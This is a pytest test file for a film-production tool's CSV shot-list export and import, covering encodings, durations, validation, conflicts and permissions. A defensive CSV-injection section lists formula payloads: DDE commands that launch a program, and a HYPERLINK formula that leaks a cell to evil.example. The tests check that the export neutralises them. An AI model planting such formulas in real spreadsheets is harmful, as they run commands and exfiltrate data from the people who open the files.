"""The shot list through a spreadsheet: export, edit as people do, import, on both backends."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from decimal import Decimal
from fractions import Fraction
from pathlib import Path

import pytest
from sqlalchemy import select

from setpiece.errors import ConflictError, InvalidInputError, PermissionDeniedError
from setpiece.model.enums import BibleKind
from setpiece.model.orm import Event, Shot
from setpiece.production import bible, records, shots
from setpiece.production.context import Production, init_production
from setpiece.production.shotlist import (
    COLUMNS,
    ShotListConflictError,
    ShotListError,
    ShotListInvalidError,
    duration_text,
    export_shot_list,
    import_shot_list,
)
from setpiece.timebase import seconds_to_frames

NTSC = Fraction(24000, 1001)


@pytest.fixture
def production(project_dir: Path, database_url: str | None) -> Iterator[Production]:
    """The shared fixture's project, at 24000/1001 fps, where float seconds go wrong first."""
    with init_production(
        project_dir, name="Night Train", fps=NTSC, database_url=database_url, actor="ana"
    ) as prod:
        yield prod


@pytest.fixture
def planned(production: Production, make) -> Production:
    """Three scenes of coverage with blocking, durations at 24000/1001."""
    for name in ("ANNA", "BEN"):
        bible.add_entry(production, BibleKind.CHARACTER, name)
    bible.add_entry(production, BibleKind.PROP, "SUITCASE")
    for number, heading in (
        ("1", "INT. CORRIDOR - NIGHT"),
        ("2", "INT. CAB - NIGHT"),
        ("3", "EXT. PLATFORM - DAWN"),
    ):
        make.scene(heading, number=number)
    subjects = shots.parse_subjects
    make.shot(
        "1A",
        "1",
        description="Wide, the corridor",
        size="WS",
        lens_mm=24,
        duration=4,
        subjects=subjects("ANNA@centre-bg") + subjects("SUITCASE@left-fg"),
    )
    make.shot(
        "1B",
        "1",
        description="Anna",
        size="MCU",
        lens_mm=50,
        angle="low",
        duration=2.5,
        subjects=subjects("ANNA@left"),
    )
    make.shot(
        "1C",
        "1",
        description="Ben watches",
        size="CU",
        lens_mm=85,
        duration=1.75,
        camera_move="push-in",
        subjects=subjects("BEN@right-mg"),
    )
    make.shot(
        "2A",
        "2",
        description="The cab",
        size="MS",
        duration=3,
        subjects=subjects("ANNA, BEN@right"),
    )
    make.shot("2B", "2", description="Hands", size="ECU", lens_mm=100, duration=1)
    make.shot("3A", "3", description="Dawn", size="EWS", duration=6.006)
    return production


def read_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream))


def write_rows(
    path: Path,
    rows: list[dict[str, str]],
    *,
    columns: tuple[str, ...] | list[str] = COLUMNS,
    delimiter: str = ",",
    encoding: str = "utf-8-sig",
) -> Path:
    """Writes rows as a spreadsheet saves them: CRLF line ends, minimal quoting."""
    text = io.StringIO(newline="")
    writer = csv.DictWriter(text, columns, delimiter=delimiter, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_bytes(text.getvalue().encode(encoding))
    return path


def state(production: Production) -> list[tuple[object, ...]]:
    return [
        (
            s.code,
            s.scene,
            s.position,
            s.description,
            s.size,
            s.angle,
            s.lens_mm,
            s.camera_move,
            s.planned_frames,
            [(x.name, x.side, x.depth) for x in s.subjects],
            s.version,
        )
        for s in shots.list_shots(production)
    ]


def edit_events(production: Production) -> dict[str, dict[str, object]]:
    with production.transaction() as session:
        events = session.scalars(select(Event).where(Event.action == "edit")).all()
        return {e.entity_id: dict(e.data) for e in events}


def test_export_writes_the_list_in_script_order(planned: Production, tmp_path: Path) -> None:
    report = export_shot_list(planned, tmp_path / "shots.csv")
    assert (report.shots, report.scenes) == (6, 3)
    data = (tmp_path / "shots.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbfcode,scene,order,description,") and b"\r\n" in data
    rows = read_rows(tmp_path / "shots.csv")
    assert [r["code"] for r in rows] == ["1A", "1B", "1C", "2A", "2B", "3A"]
    first = rows[0]
    assert first == {
        "code": "1A",
        "scene": "1",
        "order": "1",
        "description": "Wide, the corridor",
        "size": "WS",
        "angle": "",
        "lens_mm": "24",
        "move": "",
        "duration": "4.004",
        "frames": "96",
        "characters": "ANNA@centre-bg",
        "props": "SUITCASE@left-fg",
        "status": "todo",
        "version": "1",
        "workflow": "",
    }
    assert rows[3]["characters"] == "ANNA; BEN@right"
    assert (rows[5]["duration"], rows[5]["frames"]) == ("6.006", "144")
    only = export_shot_list(planned, tmp_path / "two.csv", scene="2")
    assert [r["code"] for r in read_rows(tmp_path / "two.csv")] == ["2A", "2B"] and only.scenes == 1


def test_export_overwrites_only_with_force(planned: Production, tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    target = tmp_path / "out" / "shots.csv"
    target.write_text("mine")
    with pytest.raises(ConflictError, match="exists: pass --force"):
        export_shot_list(planned, target)
    assert target.read_text() == "mine"
    export_shot_list(planned, target, force=True)
    assert len(read_rows(target)) == 6
    assert [p.name for p in target.parent.iterdir()] == ["shots.csv"]  # no temp file left
    with pytest.raises(InvalidInputError, match="does not exist"):
        export_shot_list(planned, tmp_path / "nowhere" / "shots.csv")
    with pytest.raises(InvalidInputError, match="is a folder"):
        export_shot_list(planned, target.parent)


def test_unchanged_round_trip_changes_nothing(planned: Production, tmp_path: Path) -> None:
    before = state(planned)
    events = len(records.history(planned))
    export_shot_list(planned, tmp_path / "shots.csv")
    report = import_shot_list(planned, tmp_path / "shots.csv")
    assert (report.changed, report.created, report.unchanged) == ([], [], 6)
    assert state(planned) == before and len(records.history(planned)) == events


def test_spreadsheet_edits_import_exactly_those_changes(
    planned: Production, tmp_path: Path
) -> None:
    path = tmp_path / "shots.csv"
    export_shot_list(planned, path)
    rows = {r["code"]: r for r in read_rows(path)}
    text = 'She says "wait, Ben" —\nthen leaves. Ça va? 日本'
    rows["1B"]["description"] = text
    rows["2B"]["duration"] = "5"  # frames left as exported: the edited cell wins
    rows["1C"]["scene"], rows["1C"]["order"] = "2", "3"
    rows["2A"]["order"], rows["2B"]["order"] = "2", "1"
    planned.actor = "ben"
    shuffled = sorted(rows.values(), key=lambda r: r["description"])  # a sort in the sheet
    report = import_shot_list(planned, write_rows(path, shuffled))
    changed = {c.code: c.fields for c in report.changed}
    assert changed == {
        "1B": ["description"],
        "1C": ["scene"],
        "2A": ["order"],
        "2B": ["order", "frames"],
    }
    assert report.unchanged == 2 and report.created == []
    frames = {c.code: c for c in report.changed}["2B"].changes[1]
    assert (frames.before, frames.after) == (24, seconds_to_frames(Fraction(5), NTSC)) == (24, 120)
    after = {s.code: s for s in shots.list_shots(planned)}
    assert [s.code for s in shots.list_shots(planned)] == ["1A", "1B", "2B", "2A", "1C", "3A"]
    assert after["1B"].description == text and after["1C"].scene == "2"
    assert {c: s.version for c, s in after.items()} == {
        "1A": 1,
        "1B": 2,
        "1C": 2,
        "2A": 2,
        "2B": 2,
        "3A": 1,
    }
    assert after["1B"].updated_by == "ben" and after["1A"].updated_by == "ana"
    events = edit_events(planned)
    assert events["1C"]["fields"] == ["scene"]
    assert events["1C"]["before"] == {"scene": "1"} and events["1C"]["after"] == {"scene": "2"}
    assert events["2B"]["after"] == {"order": 1, "frames": 120}
    assert [e.actor for e in records.history(planned, "shot", "2A")][-1] == "ben"
    export_shot_list(planned, path, force=True)
    again = import_shot_list(planned, path)
    assert (again.changed, again.unchanged) == ([], 6)


def test_blocking_edits_keep_prompt_overrides(planned: Production, make, tmp_path: Path) -> None:
    make.shot("1D", "1", subjects=[shots.SubjectSpec("ANNA", prompt_override="red coat")])
    path = export_shot_list(planned, tmp_path / "shots.csv").path
    rows = read_rows(Path(path))
    rows[3]["characters"] = "BEN@left; anna@right-fg"
    rows[3]["props"] = "suitcase"
    rows[0]["props"] = ""
    report = import_shot_list(planned, write_rows(Path(path), rows))
    changes = {c.code: [(f.field, f.before, f.after) for f in c.changes] for c in report.changed}
    assert changes == {
        "1A": [("props", "SUITCASE@left-fg", "")],
        "1D": [("characters", "ANNA", "BEN@left; ANNA@right-fg"), ("props", "", "SUITCASE")],
    }
    shot = shots.get_shot(planned, "1D")
    assert [(s.name, s.side, s.depth, s.prompt_override) for s in shot.subjects] == [
        ("BEN", "left", None, None),
        ("ANNA", "right", "foreground", "red coat"),
        ("SUITCASE", None, None, None),
    ]
    assert [s.name for s in shots.get_shot(planned, "1A").subjects] == ["ANNA"]


def test_frames_and_duration(planned: Production, tmp_path: Path) -> None:
    path = tmp_path / "shots.csv"
    export_shot_list(planned, path)
    rows = read_rows(path)
    rows[0]["frames"] = "100"  # frames edited, duration left: frames win
    rows[1]["duration"], rows[1]["frames"] = "", "48"
    rows[2]["duration"], rows[2]["frames"] = "", ""  # both cleared: no planned length
    import_shot_list(planned, write_rows(path, rows))
    frames = {s.code: s.planned_frames for s in shots.list_shots(planned)}
    assert (frames["1A"], frames["1B"], frames["1C"]) == (100, 48, None)
    export_shot_list(planned, path, force=True)
    rows = read_rows(path)
    rows[0]["frames"], rows[0]["duration"] = "120", "9"  # both edited, and they disagree
    with pytest.raises(ShotListInvalidError, match=r"row 2 duration 9: disagrees with frames 120"):
        import_shot_list(planned, write_rows(path, rows))


@pytest.mark.parametrize("fps", [NTSC, Fraction(24), Fraction(25), Fraction(60000, 1001)])
def test_duration_text_gives_the_frames_back(fps: Fraction) -> None:
    for frames in [*range(1, 2000), 86_000]:
        text = duration_text(frames, fps)
        assert seconds_to_frames(Fraction(Decimal(text)), fps) == frames, (frames, text)
        assert len(text.partition(".")[2]) <= 3
    assert duration_text(96, NTSC) == "4.004" and duration_text(72, Fraction(24)) == "3"


def test_excel_semicolons_crlf_and_decimal_commas(planned: Production, tmp_path: Path) -> None:
    path = tmp_path / "shots.csv"
    export_shot_list(planned, path)
    rows = read_rows(path)
    rows[1]["duration"], rows[1]["lens_mm"] = "5,005", "50,5"  # frames stays 60: duration edited
    write_rows(path, rows, delimiter=";")
    assert path.read_bytes().startswith(b"\xef\xbb\xbfcode;scene;")
    report = import_shot_list(planned, path)
    assert [(c.code, c.fields) for c in report.changed] == [("1B", ["lens_mm", "frames"])]
    shot = shots.get_shot(planned, "1B")
    assert (shot.lens_mm, shot.planned_frames) == (50.5, 120)


@pytest.mark.parametrize("encoding", ["cp1252", "utf-16"])
def test_windows_encodings_import(planned: Production, tmp_path: Path, encoding: str) -> None:
    path = tmp_path / "shots.csv"
    export_shot_list(planned, path)
    rows = read_rows(path)
    rows[0]["description"] = "Café, naïve – “quoted”"
    report = import_shot_list(planned, write_rows(path, rows, encoding=encoding))
    assert [c.fields for c in report.changed] == [["description"]]
    assert shots.get_shot(planned, "1A").description == "Café, naïve – “quoted”"
    if encoding == "cp1252":  # a guess, so it is said
        assert report.warnings == [
            "shots.csv is not UTF-8; it was read as Windows-1252: check accented letters, "
            "and save it as 'CSV UTF-8' to be sure"
        ]
    else:
        assert report.warnings == []


def test_partial_file_touches_only_its_columns(planned: Production, tmp_path: Path) -> None:
    path = write_rows(
        tmp_path / "notes.csv",
        [{"Code": "2b", "Description": "Hands, close"}, {"Code": "3A", "Description": "Dawn"}],
        columns=["Code", "Description"],
    )
    report = import_shot_list(planned, path)
    assert [(c.code, c.fields) for c in report.changed] == [("2B", ["description"])]
    shot = shots.get_shot(planned, "2B")
    assert (shot.description, shot.size, shot.planned_frames, shot.lens_mm) == (
        "Hands, close",
        "ECU",
        24,
        100.0,
    )


def test_header_only_changes_nothing(planned: Production, tmp_path: Path) -> None:
    path = write_rows(tmp_path / "shots.csv", [])
    report = import_shot_list(planned, path)
    assert (report.changed, report.created, report.unchanged) == ([], [], 0)


def test_every_problem_is_reported_and_nothing_written(planned: Production, tmp_path: Path) -> None:
    path = tmp_path / "shots.csv"
    export_shot_list(planned, path)
    rows = read_rows(path)
    for row in rows:
        row["notes"] = ""
    rows[0].update(description="changed, but the file is bad")
    rows[1].update(size="giant", lens_mm="0")
    rows[2].update(scene="7", characters="NOBODY")
    rows[3].update(duration="soon", props="ANNA")
    rows[4].update(status="review", order="abc")
    rows[5].update(code="9Z")
    rows.append({**rows[0], "code": "1a"})
    rows[1]["notes"] = "x"
    before = state(planned)
    events = len(records.history(planned))
    with pytest.raises(ShotListInvalidError) as caught:
        import_shot_list(planned, write_rows(path, rows, columns=[*COLUMNS, "notes"]))
    error = caught.value
    assert isinstance(error, InvalidInputError) and isinstance(error, ShotListError)
    expected = [
        ("row 1: unknown column 'notes'", "the columns are code, scene, order"),
        ("row 3 size giant", "unknown shot size: use ECU, CU, MCU, MS, MWS, WS, EWS"),
        ("row 3 lens_mm 0", "lens out of range"),
        ("row 4 scene 7", "no such scene"),
        ("row 4 characters NOBODY", "no character NOBODY in the bible"),
        ("row 5 duration soon", "not a duration"),
        ("row 5 props ANNA", "ANNA is a character: move it to the characters column"),
        ("row 6 order abc", "not an order: write a whole number"),
        ("row 6 status review", "use 'setpiece shot set 2B --status review'"),
        ("row 7 code 9Z", "no such shot: correct the code, or pass --add-new"),
        ("row 8 code 1A", "also on row 2: keep one row per shot"),
    ]
    assert len(error.problems) == len(expected), error.problems
    for problem, (start, fragment) in zip(error.problems, expected, strict=True):
        assert problem.startswith(start) and fragment in problem, problem
    message = str(error)
    assert message.startswith("11 problems in shots.csv: row 1: unknown column")
    assert "\n" not in message and message.endswith("more)") and len(message) < 600
    assert state(planned) == before and len(records.history(planned)) == events


def test_stale_rows_are_a_conflict_naming_the_shot(planned: Production, tmp_path: Path) -> None:
    path = tmp_path / "shots.csv"
    export_shot_list(planned, path)
    planned.actor = "ben"
    shots.set_shot_status(planned, "1B", "wip")
    planned.actor = "ana"
    rows = read_rows(path)
    rows[1]["description"] = "Anna, closer"
    with pytest.raises(
        ShotListConflictError, match=r"row 3 version 1: shot 1B changed since"
    ) as caught:
        import_shot_list(planned, write_rows(path, rows))
    assert isinstance(caught.value, ConflictError) and "by ben" in caught.value.problems[0]
    assert shots.get_shot(planned, "1B").description == "Anna"
    rows[1]["version"] = rows[1]["status"] = ""  # empty cells check nothing
    assert import_shot_list(planned, write_rows(path, rows)).changed[0].fields == ["description"]


def test_add_new_creates_shots(planned: Production, tmp_path: Path) -> None:
    rows = [
        {
            "code": "3B",
            "scene": "3",
            "description": "Ben, alone",
            "size": "ws",
            "duration": "2",
            "characters": "BEN@centre",
        },
        {"code": "2C", "scene": "2", "order": "9", "frames": "30", "status": "todo"},
    ]
    path = write_rows(tmp_path / "new.csv", rows)
    with pytest.raises(ShotListInvalidError, match="row 2 code 3B: no such shot"):
        import_shot_list(planned, path)
    report = import_shot_list(planned, path, add_new=True)
    assert [(c.code, c.scene) for c in report.created] == [("3B", "3"), ("2C", "2")]
    assert report.created[0].fields == [
        "scene",
        "order",
        "description",
        "size",
        "frames",
        "characters",
    ]
    made = shots.get_shot(planned, "3B")
    assert (made.position, made.size, made.planned_frames, made.status) == (2, "WS", 48, "todo")
    assert [(s.name, s.side) for s in made.subjects] == [("BEN", "centre")]
    assert shots.get_shot(planned, "2C").position == 9
    assert [e.action for e in records.history(planned, "shot", "3B")] == ["create"]
    orphan = write_rows(
        tmp_path / "orphan.csv",
        [{"code": "4A", "description": "x"}, {"code": "4B", "scene": "4/5"}],
    )
    with pytest.raises(ShotListInvalidError) as caught:
        import_shot_list(planned, orphan, add_new=True)
    assert caught.value.problems == [
        "row 2 code 4A: a new shot needs a scene: give its scene number in the scene column",
        "row 3 scene 4/5: not a scene number: use letters, digits, '.', '-' (up to 20), e.g. 12A",
    ]


def test_dry_run_reports_and_writes_nothing(planned: Production, tmp_path: Path) -> None:
    path = tmp_path / "shots.csv"
    export_shot_list(planned, path)
    rows = read_rows(path)
    rows[0]["size"] = "MWS"
    rows.append({"code": "3C", "scene": "3"})
    before = state(planned)
    report = import_shot_list(planned, write_rows(path, rows), add_new=True, dry_run=True)
    assert report.dry_run and [c.code for c in report.changed] == ["1A"]
    assert [c.code for c in report.created] == ["3C"]
    assert state(planned) == before


def test_two_shots_at_one_place_are_refused(planned: Production, tmp_path: Path) -> None:
    path = tmp_path / "shots.csv"
    export_shot_list(planned, path, scene="1")
    rows = read_rows(path)
    rows[2]["scene"], rows[2]["order"] = "2", "1"  # 2A, not in this file, is there
    rows[0]["order"] = "2"  # and 1B still is
    with pytest.raises(ShotListInvalidError) as caught:
        import_shot_list(planned, write_rows(path, rows))
    assert caught.value.problems == [
        "row 2 order 2: shot 1B (row 3) has order 2 in scene 1 too: give each shot in a "
        "scene its own order",
        "row 4 order 1: shot 2A (not in this file) has order 1 in scene 2 too: give each "
        "shot in a scene its own order (clear the order of a shot moved to another scene to "
        "put it at the end)",
    ]
    rows[0]["order"], rows[1]["order"] = "2", "1"  # a swap is fine
    rows[2]["order"] = ""  # moved without an order: the end of the scene
    import_shot_list(planned, write_rows(path, rows))
    assert [(s.code, s.position) for s in shots.list_shots(planned, "2")][-1] == ("1C", 3)
    assert [s.code for s in shots.list_shots(planned, "1")] == ["1B", "1A"]


@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        (b"", "is empty"),
        (b"\xef\xbb\xbf\r\n", "is empty"),
        (b"\xff\xfe", "is empty"),  # a UTF-16 BOM alone (once said to be binary)
        (b"\xff\xfe\r\x00\n\x00", "is empty"),
        (b"PK\x03\x04" + bytes(range(256)) * 4, "is a spreadsheet workbook, not CSV"),
        (b"\x89PNG\r\n\x1a\n" + bytes(200), r"not a CSV file \(it holds binary data\)"),
        (b"INT. KITCHEN - NIGHT\n\nAnna waits.\n", "not a shot list: the first row must name"),
        (b'code,scene\n1A,"1\n', "row 2: not valid CSV"),
        (b"scene,description\n1,x\n", "no 'code' column"),
    ],
)
def test_files_that_are_no_shot_list(
    planned: Production, tmp_path: Path, content: bytes, fragment: str
) -> None:
    path = tmp_path / "shots.csv"
    path.write_bytes(content)
    with pytest.raises(InvalidInputError, match=fragment):
        import_shot_list(planned, path)
    with pytest.raises(InvalidInputError, match="does not exist"):
        import_shot_list(planned, tmp_path / "missing.csv")


def test_viewers_cannot_import(planned: Production, tmp_path: Path) -> None:
    path = tmp_path / "shots.csv"
    export_shot_list(planned, path)
    records.add_user(planned, "ana", "admin")
    records.add_user(planned, "vic", "viewer")
    planned.actor = "vic"
    export_shot_list(planned, tmp_path / "mine.csv")  # reading is allowed
    with pytest.raises(PermissionDeniedError, match="vic is viewer"):
        import_shot_list(planned, path)


# Formulas (CSV injection) -------------------------------------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'tis the night train",  # a quote of its own, which must survive too
    "''=twice",
]


def test_formulas_are_exported_as_text_and_imported_unchanged(
    planned: Production, tmp_path: Path
) -> None:
    with planned.transaction() as session:  # as typed on the board or with 'shot add'
        typed = session.scalars(select(Shot).order_by(Shot.id)).all()
        for shot, text in zip(typed, FORMULAS, strict=True):
            shot.description = text
        typed[0].angle, typed[0].camera_move = "=1+1", "@push"
    before = state(planned)
    path = tmp_path / "shots.csv"
    export_shot_list(planned, path)
    rows = read_rows(path)
    assert [row["description"] for row in rows] == ["'" + text for text in FORMULAS]
    assert (rows[0]["angle"], rows[0]["move"]) == ("'=1+1", "'@push")
    for row in rows:  # nothing a spreadsheet would run
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    report = import_shot_list(planned, path)
    assert (report.changed, report.created, report.unchanged) == ([], [], 6)
    assert state(planned) == before


@pytest.mark.parametrize("cell", [*FORMULAS, "\tindented", "\rreturn", "-", "'", "plain"])
def test_every_cell_reads_back_as_it_was_written(tmp_path: Path, cell: str) -> None:
    from setpiece.production.shotlist._sheet import read_sheet, write_sheet

    path = tmp_path / "cells.csv"
    row = [cell] * len(COLUMNS)
    write_sheet(path, [row])
    records, _ = read_sheet(path)
    assert records == [list(COLUMNS), row]
    raw = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))[1]
    dangerous = cell.startswith(("=", "+", "-", "@", "\t", "\r", "'"))
    assert raw == [("'" + cell) if dangerous else cell] * len(COLUMNS)


def test_a_negative_number_is_still_read_as_that_number(
    planned: Production, tmp_path: Path
) -> None:
    """The export quotes a leading minus; a number the spreadsheet saved is read as typed."""
    path = tmp_path / "shots.csv"
    export_shot_list(planned, path)
    rows = read_rows(path)
    rows[0]["frames"] = "-96"  # as typed in the spreadsheet
    rows[1]["frames"] = "'-96"  # as the export would have written it
    rows[2]["lens_mm"] = "-35"
    with pytest.raises(ShotListInvalidError) as caught:
        import_shot_list(planned, write_rows(path, rows))
    problems = caught.value.problems
    assert problems[0].startswith("row 2 frames -96: not a frame count"), problems
    assert problems[1].startswith("row 3 frames -96: not a frame count"), problems
    assert problems[2].startswith("row 4 lens_mm -35: lens out of range"), problems


def test_numbers_that_are_no_numbers_or_out_of_range_are_refused(
    planned: Production, tmp_path: Path
) -> None:
    """NaN, infinity and numbers too big for the database are named, never stored."""
    path = tmp_path / "shots.csv"
    export_shot_list(planned, path)
    rows = read_rows(path)
    rows[0]["duration"] = "nan"
    rows[1]["lens_mm"] = "inf"
    rows[2]["frames"] = "-Infinity"
    rows[3]["order"] = "1e999999999"  # a billion digits, were it made an int
    rows[4]["version"] = "2147483648"
    rows[5]["frames"] = "1e400"
    before = state(planned)
    with pytest.raises(ShotListInvalidError) as caught:
        import_shot_list(planned, write_rows(path, rows))
    assert caught.value.problems == [
        "row 2 duration nan: not a duration: write a number such as 4.5",
        "row 3 lens_mm inf: not a focal length: write a number such as 35",
        "row 4 frames -Infinity: not a frame count: write a whole number from 1 up, such as 96",
        "row 5 order 1e999999999: an order out of range: write a whole number from 1 to 2147483647",
        "row 6 version 2147483648: a version out of range: write a whole number from 1 to "
        "2147483647",
        "row 7 frames 1e400: too many frames: at most 86313 (3600 s)",
    ]
    assert state(planned) == before
